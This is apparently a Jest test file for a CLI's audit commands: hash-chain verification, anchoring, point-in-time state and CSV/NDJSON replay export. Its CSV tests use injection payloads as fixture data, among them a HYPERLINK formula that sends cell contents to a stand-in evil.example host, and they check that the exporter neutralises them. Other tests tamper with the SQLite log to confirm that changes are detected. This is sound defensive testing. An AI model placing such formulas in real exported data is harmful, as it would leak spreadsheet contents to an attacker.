import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { HashChainedEventStore, SqliteEventStore, recordAnchor } from '@optex/event-store';
import { csvField } from './audit-commands';
import { main } from './program';

// The audit commands (verify, anchor, state --at, replay --format) run as the CLI runs them (`main`), on SQLite
// logs written here through the hash chain with chosen `recordedAt`.

const dir = mkdtempSync(join(tmpdir(), 'optex-audit-cli-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const T0 = Date.UTC(2026, 11, 2, 10, 0, 0);
const at = (s: number) => new Date(T0 + s * 1000);
const ID_A = '8a0c6c2e-6c1f-5f39-9d0e-3a1f4a2b9c11';
const ID_B = 'b57c2f00-1b2c-5d3e-8f40-5a6b7c8d9e0f';

const recommendation = (id: string, resourceId: string, region = 'eu-west-1') => ({
  recommendationId: `rec-${id.slice(0, 4)}`,
  source: 'spec',
  accountId: '123456789012',
  region,
  resource: { type: 'ec2:volume', id: resourceId },
  action: { type: 'modify-volume', targetVolumeType: 'gp3' },
  estimatedMonthlySavings: 2,
  currency: 'USD',
});

interface Append {
  readonly id: string;
  readonly type: string;
  readonly data: Record<string, unknown>;
  /** Seconds after T0 the store records it at. */
  readonly s: number;
}

const received = (id: string, s: number, resourceId = 'vol-1', region?: string): Append => ({
  id,
  type: 'OptimizationReceived',
  data: { recommendation: recommendation(id, resourceId, region), dryRun: false, deliveryId: 'd' },
  s,
});
const assessed = (id: string, s: number): Append => ({ id, type: 'RiskAssessed', data: { baseLevel: 'LOW', level: 'LOW', factors: [], policyVersion: 'default-v1' }, s });

let n = 0;
/** A SQLite log holding `appends` in this order, each recorded at its own instant; its path. */
async function seed(appends: readonly Append[], options: { anchor?: boolean } = {}): Promise<string> {
  const file = join(dir, `log-${++n}.db`);
  let now = new Date(T0);
  const store = new HashChainedEventStore(SqliteEventStore.open(file, { clock: { now: () => now } }));
  try {
    let i = 0;
    for (const a of appends) {
      now = at(a.s);
      await store.appendToStream(`optimization-${a.id}`, [{ id: `00000000-0000-4000-8000-${String(++i).padStart(12, '0')}`, type: a.type, data: { optimizationId: a.id, at: at(a.s).toISOString(), ...a.data }, metadata: { schemaVersion: 1 } }], 'any');
    }
    if (options.anchor) await recordAnchor(store);
  } finally {
    await store.close();
  }
  return file;
}

interface Outcome {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

/** Runs the CLI; what it writes to process.stdout itself (the export) is taken too. */
async function optex(args: readonly string[]): Promise<Outcome> {
  const out: string[] = [];
  const err: string[] = [];
  const written: string[] = [];
  const spy = jest.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    written.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8'));
    return true;
  });
  try {
    const code = await main(args, { out: (s) => out.push(`${s}\n`), err: (s) => err.push(`${s}\n`) });
    return { code, stdout: written.join('') + out.join(''), stderr: err.join('') };
  } finally {
    spy.mockRestore();
  }
}

describe('replay --format csv: cells a spreadsheet would run are neutralised (OWASP CSV injection)', () => {
  it('csvField: a leading = + - @ tab or CR gets a single quote, inside a quoted field; anything else stays RFC 4180', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(csvField('@SUM(1+1)')).toBe('"\'@SUM(1+1)"');
    expect(csvField('+1+cmd')).toBe('"\'+1+cmd"');
    expect(csvField('-2+3')).toBe('"\'-2+3"');
    expect(csvField('\t=1')).toBe('"\'\t=1"');
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(csvField('vol-1')).toBe('vol-1');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField(null)).toBe('');
    expect(csvField({ a: '=1' })).toBe('"{""a"":""=1""}"');
  });

  it('the exported file carries the resource ids as text, never as formulas', async () => {
    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)', '+1+cmd', '-2+3'];
    const uuids = ids.map((_, i) => `${String(i + 1).repeat(8)}-1b2c-5d3e-8f40-5a6b7c8d9e0f`);
    const file = await seed(ids.map((id, i) => received(uuids[i], i, id)));
    const output = join(dir, 'injection.csv');
    const result = await optex(['replay', '--format', 'csv', '--output', output, '--store', `sqlite:${file}`]);
    expect(result).toMatchObject({ code: 0, stdout: '' });
    const text = readFileSync(output, 'utf8');
    expect(text).toContain(',eu-west-1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")","{');
    for (const id of ['@SUM(1+1)', '+1+cmd', '-2+3']) expect(text).toContain(`,eu-west-1,"'${id}","{`);
    // No cell of any line starts with a formula character, quoted or not.
    expect(text.split('\r\n').some((line) => /(^|,)"?[=+\-@]/.test(line))).toBe(false);
  });
});

describe('replay: flags that contradict each other are refused (exit 2), naming them', () => {
  let store: string;
  beforeAll(async () => {
    store = `sqlite:${await seed([received(ID_A, 0), assessed(ID_A, 1)])}`;
  });

  it('export filters without --format: exit 2 naming each, instead of folding the whole log', async () => {
    const result = await optex(['replay', '--type', 'ValidationPassed', '--region', 'eu-west-1', '--from', at(0).toISOString(), '--store', store]);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/^optex: --from, --type, --region: filter or redirect the export only: add --format ndjson or --format csv/);
    const output = await optex(['replay', '--output', join(dir, 'x.csv'), '--store', store]);
    expect(output.code).toBe(2);
    expect(output.stderr).toMatch(/^optex: --output: filters or redirects the export only/);
    expect((await optex(['replay', '--store', store])).code).toBe(0); // the plain replay still folds
  });

  it('--format with --json: exit 2 (stdout would hold CSV, not JSON)', async () => {
    const result = await optex(['replay', '--format', 'csv', '--json', '--store', store]);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/^optex: --json: replay --format csv writes CSV, not one JSON document; drop --json/);
  });

  it('--type must name an event type exactly (the right one suggested), --region an AWS region', async () => {
    const wrongCase = await optex(['replay', '--format', 'ndjson', '--type', 'RiskAssessed,validationpassed', '--store', store]);
    expect(wrongCase.code).toBe(2);
    expect(wrongCase.stdout).toBe('');
    expect(wrongCase.stderr).toMatch(/^optex: --type: unknown event type "validationpassed" \(did you mean ValidationPassed\? names are case-sensitive\); the event types are OptimizationReceived, .*AuditAnchorRecorded/);
    const unknown = await optex(['replay', '--format', 'ndjson', '--type', 'Nope', '--store', store]);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/^optex: --type: unknown event type "Nope"; the event types are /);
    const region = await optex(['replay', '--format', 'ndjson', '--region', 'eu-wst-1', '--store', store]);
    expect(region.code).toBe(2);
    expect(region.stderr).toMatch(/^optex: --region: "eu-wst-1" is not an AWS region; the regions are us-east-1, /);
    const upper = await optex(['replay', '--format', 'ndjson', '--region', 'EU-WEST-1', '--store', store]);
    expect(upper.stderr).toMatch(/^optex: --region: "EU-WEST-1" is not an AWS region \(did you mean eu-west-1\?\)/);

    const right = await optex(['replay', '--format', 'ndjson', '--type', 'RiskAssessed', '--region', 'eu-west-1', '--store', store]);
    expect(right.code).toBe(0);
    expect(right.stdout.trim().split('\n').map((l) => (JSON.parse(l) as { type: string }).type)).toEqual(['RiskAssessed']);
    expect(right.stderr).toBe('exported 1 events as ndjson\n');
  });
});

describe('replay --format … --output FILE: the file is replaced only by a whole export', () => {
  const output = join(dir, 'kept.csv');
  beforeEach(() => writeFileSync(output, 'precious\n'));

  it('a store that does not exist, or an --optimization it does not hold, leaves the file as it was (exit 1)', async () => {
    const missing = await optex(['replay', '--format', 'csv', '--output', output, '--store', `sqlite:${join(dir, 'typo', 'events.db')}`]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toMatch(/--store: .*typo\/events\.db does not exist/);
    expect(readFileSync(output, 'utf8')).toBe('precious\n');

    const store = `sqlite:${await seed([received(ID_A, 0)])}`;
    const noSuch = await optex(['replay', '--format', 'csv', '--optimization', 'ffffffff', '--output', output, '--store', store]);
    expect(noSuch.code).toBe(1);
    expect(noSuch.stderr).toMatch(/no optimization ffffffff in this store/);
    expect(readFileSync(output, 'utf8')).toBe('precious\n');
    const badType = await optex(['replay', '--format', 'csv', '--type', 'nope', '--output', output, '--store', store]);
    expect(badType.code).toBe(2);
    expect(readFileSync(output, 'utf8')).toBe('precious\n');
  });

  it('a whole export replaces it, and leaves no temporary file behind', async () => {
    const store = `sqlite:${await seed([received(ID_A, 0), assessed(ID_A, 1)])}`;
    const before = readdirSync(dir).length;
    const result = await optex(['replay', '--format', 'csv', '--output', output, '--store', store]);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe(`exported 2 events as csv to ${output}\n`);
    const lines = readFileSync(output, 'utf8').split('\r\n');
    expect(lines[0]).toBe('position,recordedAt,stream,revision,id,type,optimizationId,accountId,region,resourceId,data,metadata');
    expect(lines).toHaveLength(4); // header, 2 rows, the empty string after the last CRLF
    expect(readdirSync(dir).length).toBe(before);
  });

  it('a new file is created; one in a directory that does not exist is refused (exit 2)', async () => {
    const store = `sqlite:${await seed([received(ID_A, 0)])}`;
    const fresh = join(dir, 'fresh.ndjson');
    expect((await optex(['replay', '--format', 'ndjson', '--output', fresh, '--store', store])).code).toBe(0);
    expect(readFileSync(fresh, 'utf8').trim().split('\n')).toHaveLength(1);
    const nowhere = await optex(['replay', '--format', 'ndjson', '--output', join(dir, 'no-dir', 'x.ndjson'), '--store', store]);
    expect(nowhere.code).toBe(2);
    expect(nowhere.stderr).toMatch(/^optex: --output: cannot write .*no-dir\/x\.ndjson/);
    expect(existsSync(join(dir, 'no-dir'))).toBe(false);
  });
});

describe('verify', () => {
  it('--stream naming no stream: exit 1 saying so; an optimization id prefix verifies that optimization, saying so', async () => {
    const store = `sqlite:${await seed([received(ID_A, 0), received(ID_B, 1), assessed(ID_B, 2)])}`;
    const prefix = await optex(['verify', '--stream', 'b57c2f00', '--store', store]);
    expect(prefix.code).toBe(0);
    expect(prefix.stdout).toMatch(new RegExp(`^No stream is named b57c2f00; it names optimization ${ID_B}: verifying its stream optimization-${ID_B}\\.\\nOK: 2 events of stream optimization-${ID_B} verified`));
    const json = await optex(['verify', '--stream', 'b57c2f00', '--store', store, '--json']);
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: true, events: 2, stream: `optimization-${ID_B}`, resolvedFrom: 'b57c2f00' });

    const none = await optex(['verify', '--stream', 'c0ffee00', '--store', store]);
    expect(none.code).toBe(1);
    expect(none.stdout).toBe('');
    expect(none.stderr).toMatch(/^optex: --stream: the log has no stream c0ffee00, and no optimization id, unique prefix or recommendation id is c0ffee00 either/);
    const exact = await optex(['verify', '--stream', `optimization-${ID_A}`, '--store', store]);
    expect(exact.code).toBe(0);
    expect(exact.stdout).toMatch(new RegExp(`^OK: 1 events of stream optimization-${ID_A} verified`));
  });

  it('a log without any anchor: OK, with a warning that removed streams cannot be detected; anchored, no warning', async () => {
    const appends = [received(ID_A, 0), assessed(ID_A, 1)];
    const bare = await optex(['verify', '--store', `sqlite:${await seed(appends)}`]);
    expect(bare.code).toBe(0);
    expect(bare.stdout).toMatch(/^OK: 2 events in 1 streams, no anchor verified in [\d.]+ s; every hash chain is intact\.\nLog digest through position 2 \(2 events\): [0-9a-f]{64}\n.*\nWARNING: the log holds no anchor, so the removal of a whole stream \(or of the last events of a stream\) cannot be detected; run optex anchor/);
    const anchoredStore = `sqlite:${await seed(appends, { anchor: true })}`;
    const anchored = await optex(['verify', '--store', anchoredStore]);
    expect(anchored.code).toBe(0);
    expect(anchored.stdout).toMatch(/^OK: 3 events in 2 streams, 1 of 1 anchors verified in [\d.]+ s; every hash chain is intact and every anchor matches\.\nLog digest through position 2 \(2 events\): [0-9a-f]{64}\n[^\n]+\n$/);
    expect(JSON.parse((await optex(['verify', '--store', anchoredStore, '--json'])).stdout)).not.toHaveProperty('warnings');
  });
});

/** Runs `sql` on the SQLite file, as anyone with write access to it can. */
function tamper(file: string, ...statements: string[]): void {
  const db = new Database(file);
  try {
    for (const sql of statements) db.prepare(sql).run();
  } finally {
    db.close();
  }
}

/** Appends `appends` to the log in `file` and anchors it, as a later run would. */
async function runAgain(file: string, appends: readonly Append[]): Promise<void> {
  const store = new HashChainedEventStore(SqliteEventStore.open(file));
  try {
    let i = 100;
    for (const a of appends) {
      await store.appendToStream(`optimization-${a.id}`, [{ id: `00000000-0000-4000-8000-${String(++i).padStart(12, '0')}`, type: a.type, data: { optimizationId: a.id, ...a.data }, metadata: { schemaVersion: 1 } }], 'any');
    }
    await recordAnchor(store);
  } finally {
    await store.close();
  }
}

const KEEP = (position: string, digest: string) => `Keep it outside the log (a ticket, a write-once bucket) and check the log against it later with: optex verify --expect ${position}:${digest}`;

describe('anchor: prints the digest to keep outside the log, whether it anchored now or the last anchor covers the log already', () => {
  it('anchors, then with nothing new prints the last anchor (its position and digest), in text and JSON', async () => {
    const store = `sqlite:${await seed([received(ID_A, 0), assessed(ID_A, 1)])}`;
    const first = await optex(['anchor', '--store', store]);
    expect(first.code).toBe(0);
    const digest = /digest ([0-9a-f]{64})/.exec(first.stdout)?.[1] as string;
    expect(first.stdout).toBe(`Anchored 2 events up to position 2: digest ${digest}\n${KEEP('2', digest)}\n`);
    const again = await optex(['anchor', '--store', store]);
    expect(again).toMatchObject({ code: 0, stderr: '' });
    expect(again.stdout).toBe(`Nothing new to anchor: the last anchor fixes 2 events up to position 2: digest ${digest}\n${KEEP('2', digest)}\n`);
    expect(JSON.parse((await optex(['anchor', '--store', store, '--json'])).stdout)).toEqual({
      recorded: false,
      anchor: { throughCommit: '2', throughPrepare: '2', events: 2, digest },
      expect: `2:${digest}`,
    });
    await runAgain(store.slice('sqlite:'.length), [assessed(ID_B, 2)]); // position 4, anchored at 5
    const third = JSON.parse((await optex(['anchor', '--store', store, '--json'])).stdout) as { recorded: boolean; anchor: { throughCommit: string; digest: string }; expect: string };
    expect(third).toMatchObject({ recorded: false, anchor: { throughCommit: '4', events: 3 } });
    expect(third.expect).toBe(`4:${third.anchor.digest}`);

    const empty = `sqlite:${await seed([])}`;
    expect((await optex(['anchor', '--store', empty])).stdout).toBe('Nothing to anchor: the log holds no event yet.\n');
    expect(JSON.parse((await optex(['anchor', '--store', empty, '--json'])).stdout)).toEqual({ recorded: false, anchor: null, expect: null });
  });

  it.each([
    ['a throughCommit that is no position', `UPDATE events SET data = json_set(data, '$.throughCommit', 'abc') WHERE stream = 'optex-audit-anchors'`, 'throughCommit "abc" is not a position \\(a decimal integer\\)'],
    ['data null', `UPDATE events SET data = 'null' WHERE stream = 'optex-audit-anchors'`, 'its data is null, not an object'],
    ['no throughPrepare', `UPDATE events SET data = json_remove(data, '$.throughPrepare') WHERE stream = 'optex-audit-anchors'`, 'throughPrepare is missing'],
  ])('an anchor with %s: verify names it (exit 1, no stack trace); anchor refuses in one line naming it', async (_, sql, why) => {
    const file = await seed([received(ID_A, 0), assessed(ID_A, 1)], { anchor: true }); // the anchor at position 3
    tamper(file, sql);
    const verified = await optex(['verify', '--store', `sqlite:${file}`]);
    expect(verified).toMatchObject({ code: 1, stderr: '' });
    expect(verified.stdout).toMatch(new RegExp(`^FAILED \\(hash-mismatch\\): optex-audit-anchors@0 \\(AuditAnchorRecorded, id [0-9a-f-]+, position 3\\) records hash [0-9a-f]{64}, but its content hashes to [0-9a-f]{64}: it was changed after it was written; and its data is not a valid anchor: ${why}\\n`));
    const refused = await optex(['anchor', '--store', `sqlite:${file}`]);
    expect(refused).toMatchObject({ code: 1, stdout: '' });
    expect(refused.stderr).toMatch(/^optex: cannot anchor: the last anchor, optex-audit-anchors@0 \(id [0-9a-f-]+, position 3\), was changed after it was written \(its content no longer gives the hash it records\); run optex verify\n$/);
  });
});

describe('verify: the digest of the log, --expect, and a log cut back to an anchor', () => {
  it('prints the digest an anchor would record now; --expect POSITION:DIGEST checks the log against one kept outside it', async () => {
    const file = await seed([received(ID_A, 0), assessed(ID_A, 1)]);
    const store = `sqlite:${file}`;
    const json = JSON.parse((await optex(['verify', '--store', store, '--json'])).stdout) as { logDigest: { digest: string } };
    const digest = json.logDigest.digest;
    expect(json.logDigest).toEqual({ throughCommit: '2', throughPrepare: '2', events: 2, digest: expect.stringMatching(/^[0-9a-f]{64}$/) });
    const text = await optex(['verify', '--store', store]);
    expect(text.stdout.split('\n').slice(1, 3)).toEqual([`Log digest through position 2 (2 events): ${digest}`, KEEP('2', digest)]);
    expect(JSON.parse((await optex(['anchor', '--store', store, '--json'])).stdout)).toMatchObject({ recorded: true, anchor: { throughCommit: '2', digest }, expect: `2:${digest}` });

    const ok = await optex(['verify', '--expect', `2:${digest.toUpperCase()}`, '--store', store]);
    expect(ok.code).toBe(0);
    expect(ok.stdout).toMatch(/^OK: 3 events in 2 streams, 1 of 1 anchors, 1 of 1 expected digests verified in [\d.]+ s; every hash chain is intact, every anchor matches and every expected digest matches\.\n/);
    expect(JSON.parse((await optex(['verify', '--expect', `2:${digest}`, '--store', store, '--json'])).stdout)).toMatchObject({ ok: true, expected: { checked: 1, total: 1 } });

    const wrong = await optex(['verify', '--expect', `2:${'a'.repeat(64)}`, '--expect', `2:${digest}`, '--store', store]);
    expect(wrong.code).toBe(1);
    expect(wrong.stdout).toMatch(/^FAILED \(expect-mismatch\): the log through position 2 gives 2 events, digest [0-9a-f]{16}…, not the digest aaaaaaaaaaaaaaaa… expected there/);
    for (const bad of ['2', `x:${digest}`, `2:${digest.slice(1)}`]) {
      const refused = await optex(['verify', '--expect', bad, '--store', store]);
      expect({ bad, code: refused.code }).toEqual({ bad, code: 2 });
      expect(refused.stderr).toMatch(/^optex: --expect: expected POSITION:DIGEST as anchor and verify print them \(a decimal position, 64 hex digits\), got "/);
    }
    const oneStream = await optex(['verify', '--stream', `optimization-${ID_A}`, '--expect', `2:${digest}`, '--store', store]);
    expect(oneStream.code).toBe(2);
    expect(oneStream.stderr).toMatch(/^optex: --expect: a digest covers the whole log; drop --stream/);
  });

  it('a log cut back to an earlier anchor fails (truncated) on SQLite; with sqlite_sequence lowered too, only --expect tells', async () => {
    const file = await seed([received(ID_A, 0), assessed(ID_A, 1)], { anchor: true }); // events 1–2, anchor 3
    await runAgain(file, [received(ID_B, 2)]); // event 4, anchor 5
    const kept = JSON.parse((await optex(['anchor', '--store', `sqlite:${file}`, '--json'])).stdout) as { expect: string };
    expect(kept.expect).toMatch(/^4:[0-9a-f]{64}$/);
    tamper(file, 'DELETE FROM events WHERE position > 3');
    const cut = await optex(['verify', '--store', `sqlite:${file}`]);
    expect(cut.code).toBe(1);
    expect(cut.stdout).toMatch(
      /^FAILED \(truncated\): positions after 3 were written and are gone: SQLite's AUTOINCREMENT high-water mark for the events table \(sqlite_sequence\) is 5, the log's last event is at 3 \(its last events were removed\)\n {2}checked before it: 3 events in 2 streams, 1 of 1 anchors\n$/,
    );
    expect(JSON.parse((await optex(['verify', '--store', `sqlite:${file}`, '--json'])).stdout)).toMatchObject({ ok: false, failure: { problem: 'truncated' } });

    tamper(file, "UPDATE sqlite_sequence SET seq = 3 WHERE name = 'events'");
    expect((await optex(['verify', '--store', `sqlite:${file}`])).code).toBe(0); // nothing in the file tells any more
    const expected = await optex(['verify', '--expect', kept.expect, '--store', `sqlite:${file}`]);
    expect(expected.code).toBe(1);
    expect(expected.stdout).toMatch(/^FAILED \(expect-missed\): the log ends at position 3, before position 4 that a digest was expected at \(its last events were removed\)\n/);
  });
});

describe('state ID --at: the prefix of the stream before the first event recorded after the instant', () => {
  it('timestamps not monotonic in the stream (a clock stepped back): nothing recorded after a later event is folded before it', async () => {
    // Revision 2 was recorded at +9 s, revision 3 at +2 s (the clock stepped back): at +5 s, the stream stood at revision 1.
    const store = `sqlite:${await seed([
      received(ID_A, 0),
      assessed(ID_A, 1),
      { id: ID_A, type: 'ExecutionScheduled', data: { batchId: 'b', notBefore: at(9).toISOString(), priority: 'LOW' }, s: 9 },
      { id: ID_A, type: 'ExecutionStarted', data: { dryRun: false }, s: 2 },
    ])}`;
    const result = await optex(['state', ID_A, '--at', at(5).toISOString(), '--store', store, '--json']);
    expect(result).toMatchObject({ code: 0, stderr: '' });
    expect(JSON.parse(result.stdout)).toMatchObject({ eventsApplied: 2, eventsAfter: 2, asOf: { revision: 1, type: 'RiskAssessed' }, state: { status: 'received' } });
  });

  it('a stream that does not fold: one line saying what failed, exit 1, no stack trace', async () => {
    const store = `sqlite:${await seed([received(ID_A, 0), { id: ID_A, type: 'ExecutionStarted', data: { dryRun: false }, s: 1 }])}`;
    const result = await optex(['state', ID_A, '--at', at(5).toISOString(), '--store', store]);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(new RegExp(`^optex state: cannot show optimization ${ID_A} at ${at(5).toISOString()}: the stream does not fold at revision 1 \\(ExecutionStarted, recorded ${at(1).toISOString()}\\): .+\\n$`));
    expect(result.stderr).not.toMatch(/\n\s+at /);
  });
});
